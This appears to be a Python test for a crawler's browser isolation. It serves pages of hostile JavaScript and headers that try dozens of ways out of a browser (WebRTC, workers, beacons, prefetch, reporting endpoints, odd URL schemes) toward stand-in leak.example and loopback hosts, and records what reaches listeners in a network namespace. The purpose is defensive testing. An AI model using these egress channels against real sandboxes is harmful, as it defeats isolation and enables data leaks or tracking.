"""A hostile page in a namespace of its own, where everything that leaves a browser arrives.

``unshare -Urnm python -m tests.browser.isolated LAYER RESULT``: LAYER is one of ``LAYERS``;
RESULT becomes a JSON list of what arrived, but for what the crawler asked for.
"""

import json
import socket
import subprocess
import sys
import threading
import time
from collections.abc import Sequence
from pathlib import Path
from tempfile import TemporaryDirectory

from kompascrawler.browser.chromium import FLAGS, NOWHERE, find_chromium
from tests.browser.crawls import crawl
from tests.browser.stand_in import StandIn, always, article, url
from tests.replica.exchange import Reply
from tests.replica.serve import serve

LAYERS = ("nothing", "flags", "no namespace", "everything")
"""A browser with a proxy and routes only, with our flags too; a crawl that gets no network
namespace, and one that gets one."""
OWN_ADDRESS = "10.77.0.1"
PORTS = (9, 80, 443, 3478)
"""Where somebody listens besides port 53: our proxy of nowhere, the web's, WebRTC's."""
SECONDS_TO_ARRIVE = 2.0

_COMMON = r"""
const hosts = ["127.0.0.1", "10.77.0.1", "localhost"];
let count = 0;
const name = what => `${what}${++count}.leak.example`;
const tried = (what, attempt) => { try { attempt()?.catch?.(() => 0); } catch {} };
"""
_TALKS = r"""
const rtc = (view, where) => tried("rtc", () => {
    const urls = hosts.map(host => `stun:${host}:3478`);
    urls.push(`stun:${name(where)}:3478`);
    const turns = ["127.0.0.1", name("turn")].flatMap(host =>
        [`turn:${host}:3478?transport=tcp`, `turn:${host}:3478`, `turns:${host}:443`]);
    const peer = new (view.RTCPeerConnection || view.webkitRTCPeerConnection)({iceServers:
        [{urls}, {urls: turns, username: "a", credential: "b"}]});
    peer.createDataChannel("x");
    return peer.createOffer().then(offer => peer.setLocalDescription(offer));
});
rtc(window, "main");
for (const attribute of ["", "srcdoc"]) {
    const frame = document.createElement("iframe");
    if (attribute) frame.srcdoc = "<p>";
    document.body.append(frame);
    rtc(frame.contentWindow, "frame");
    frame.onload = () => rtc(frame.contentWindow, "loaded");
}
"""
_ASKS = r"""
const places = what => [...hosts.map(host => host), name(what)];
const network = `
    for (const host of PLACES) {
        try { fetch("http://" + host + "/f").catch(() => 0); } catch {}
        try { fetch("https://" + host + "/f", {mode: "no-cors"}).catch(() => 0); } catch {}
        try { new WebSocket("ws://" + host + "/w"); } catch {}
        try { new WebSocket("wss://" + host + "/w"); } catch {}
        try { new WebTransport("https://" + host + ":443/t").ready.catch(() => 0); } catch {}
        try { new EventSource("http://" + host + "/e"); } catch {}
        try { importScripts("http://" + host + "/i.js"); } catch {}
    }`;
const script = what => network.replace("PLACES", JSON.stringify(places(what)));
new Function(script("page"))();
tried("worker", () => {
    const code = URL.createObjectURL(new Blob([script("worker")]));
    new Worker(code);
    new SharedWorker(code);
});
const inline = "data:text/javascript," + encodeURIComponent(script("data"));
tried("data worker", () => void new Worker(inline));
tried("service worker", () => navigator.serviceWorker.register("?worker"));
for (const host of places("page")) {
    const add = html => document.body.insertAdjacentHTML("beforeend", html);
    tried("beacon", () => void navigator.sendBeacon(`http://${host}/b`, "x"));
    tried("later", () => void fetchLater(`https://${host}/l`, {activateAfter: 0}));
    for (const kind of ["dns-prefetch", "preconnect", "prefetch", "prerender", "preload", "icon",
        "manifest", "stylesheet", "modulepreload", "compression-dictionary"]) {
        const at = hosts.includes(host) ? host : name(kind);
        add(`<link rel="${kind}" as="script" href="https://${at}/${kind}">`);
    }
    const rules = document.createElement("script");
    rules.type = "speculationrules";
    const urls = [`https://${host}/spec`, location.pathname + "?spec"];
    rules.textContent = JSON.stringify(
        {prefetch: [{urls, eagerness: "immediate"}], prerender: [{urls, eagerness: "immediate"}]});
    document.head.append(rules);
    add(`<img src="http://${host}/i.png"><video src="http://${host}/v.mp4" autoplay></video>
        <audio src="http://${host}/a.mp3"></audio><object data="http://${host}/o"></object>
        <embed src="http://${host}/m"><iframe src="http://${host}/frame"></iframe>
        <img attributionsrc="https://${host}/attribution" src="data:,">
        <style>@import "http://${host}/s.css"; @font-face {font-family: f${count};
            src: url(http://${host}/f.woff)} p {font-family: f${count}}</style>
        <form method="post" action="http://${host}/form" target="_blank"></form>
        <form action="http://${host}/form" target="inner"></form><iframe name="inner"></iframe>
        <a ping="http://${host}/ping" href="#x">x</a>`);
    tried("click", () => void [...document.querySelectorAll("a[ping]")].at(-1).click());
    for (const form of [...document.forms].slice(-2)) tried("form", () => void form.submit());
    tried("open", () => void open(`http://${host}/open`));
    tried("pay", () => new PaymentRequest([{supportedMethods: `https://${host}/pay`}],
        {total: {label: "x", amount: {currency: "IDR", value: "1"}}}).canMakePayment());
    tried("identity", () => navigator.credentials.get({identity:
        {providers: [{configURL: `https://${host}/id.json`, clientId: "1"}]}}));
    tried("auction", () => navigator.joinAdInterestGroup(
        {owner: `https://${host}`, name: "x", lifetimeMs: 1e6}, 60));
    tried("storage", () => sharedStorage.worklet.addModule(`https://${host}/s.js`));
    tried("protocol", () => void navigator.registerProtocolHandler("web+x", `https://${host}/%s`));
    for (const scheme of ["ftp", "file", "mailto", "tel", "intent", "sms", "web+x",
        "view-source:http", "chrome-extension", "filesystem:http", "devtools", "chrome", "smb"]) {
        tried("scheme", () => void open(`${scheme}://${host}/s`));
        add(`<iframe src="${scheme}://${host}/s"></iframe><img src="${scheme}://${host}/s">`);
    }
}
setTimeout(() => { location.href = `http://${name("gone")}/`; }, 300);
setTimeout(() => { location.href = "http://10.77.0.1/gone"; }, 600);
"""
_HEAD = (
    '<meta http-equiv="refresh" content="1; url=http://refresh.leak.example/">'
    '<meta http-equiv="Content-Security-Policy-Report-Only" content="img-src none">'
)
_REPORTS = {
    "Reporting-Endpoints": 'default="https://reports.leak.example/r"',
    "Report-To": '{"max_age": 9999, "endpoints": [{"url": "https://127.0.0.1/r"}]}',
    "NEL": '{"report_to": "default", "max_age": 9999, "success_fraction": 1.0}',
    "Content-Security-Policy-Report-Only": "img-src 'none'; report-uri http://127.0.0.1/csp",
    "Link": "<https://early.leak.example/>; rel=preconnect, <//dns.leak.example>; rel=dns-prefetch",
    "Alt-Svc": 'h3="127.0.0.1:443"; ma=9999',
}


def hostile() -> dict[str, Reply]:
    """Return pages that try every way out of a browser."""
    asks = article("Satu.", script=_COMMON + _ASKS, head=_HEAD)
    talks = article("Satu.", script=_COMMON + _TALKS)
    return {"talks": talks, "asks": Reply(body=asks.body, headers=_REPORTS)}


def _give_addresses() -> None:
    """Give the namespace a loopback and an interface that looks like the way to the network."""
    for command in (
        "link set lo up",
        "link add outside type veth peer name inside",
        f"address add {OWN_ADDRESS}/24 dev outside",
        "link set outside up",
        "link set inside up",
        "route add default dev outside",
    ):
        subprocess.run(["ip", *command.split()], check=True)


def _ask_us_for_names(folder: Path) -> None:
    """Let every resolver of the namespace ask our port 53."""
    resolver = folder / "resolv.conf"
    resolver.write_text("nameserver 127.0.0.1\noptions timeout:1 attempts:1\n")
    subprocess.run(["mount", "--bind", resolver, "/etc/resolv.conf"], check=True)


def _listen(arrived: list[str]) -> None:
    for port in (53, *PORTS):
        datagrams = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        datagrams.bind(("", port))
        threading.Thread(target=_note_datagrams, args=(datagrams, arrived), daemon=True).start()
        connections = socket.create_server(("", port))
        threading.Thread(target=_note_connections, args=(connections, arrived), daemon=True).start()


def _note_datagrams(listening: socket.socket, arrived: list[str]) -> None:
    while True:
        data, sender = listening.recvfrom(4096)
        port = listening.getsockname()[1]
        arrived.append(f"udp {port} {data[12:60]!r}")
        if port == 53:  # the name does not exist
            listening.sendto(data[:2] + b"\x81\x83" + data[4:], sender)


def _note_connections(listening: socket.socket, arrived: list[str]) -> None:
    while True:
        connection, _ = listening.accept()
        arrived.append(f"tcp {listening.getsockname()[1]}")
        connection.close()


def _visit(flags: Sequence[str]) -> None:
    """Open the pages as the crawler did before it closed what no route sees, but for flags."""
    from playwright.sync_api import Route, sync_playwright

    def answer(route: Route) -> None:
        page = site.get(route.request.url)
        route.fulfill(body=page.body, headers=page.headers) if page else route.abort()

    site = {url(name): page for name, page in hostile().items()}
    with sync_playwright() as playwright:
        found = find_chromium(None, Path(playwright.chromium.executable_path))
        browser = playwright.chromium.launch(
            executable_path=found, proxy={"server": NOWHERE}, args=flags
        )
        for address in site:
            page = browser.new_page(ignore_https_errors=True)
            page.route("**", answer)
            page.goto(address, wait_until="commit")
        page.wait_for_timeout(1000 * SECONDS_TO_ARRIVE)
        browser.close()


def _crawl() -> set[str]:
    """Let the crawler walk the pages; return the strange hosts that it asked."""
    site = StandIn(**{name: always(page) for name, page in hostile().items()})
    with serve(site) as replica:
        answers = crawl(replica, site.urls()).answers
        time.sleep(SECONDS_TO_ARRIVE)
    assert all("Satu." in answers[name]["body"] for name in hostile()), answers
    return {line.host for line in replica.log} - {"www.kompas.com"}


def main(layer: str, result: Path) -> None:
    """Visit the pages and write down what arrived."""
    arrived: list[str] = []
    _give_addresses()
    if layer == "no namespace":
        Path("/proc/sys/user/max_net_namespaces").write_text("0")
    with TemporaryDirectory() as folder:
        _ask_us_for_names(Path(folder))
        _listen(arrived)
        if layer in ("nothing", "flags"):
            _visit(FLAGS if layer == "flags" else ())
        else:
            arrived += _crawl()
    result.write_text(json.dumps(arrived))


if __name__ == "__main__":
    main(sys.argv[1], Path(sys.argv[2]))
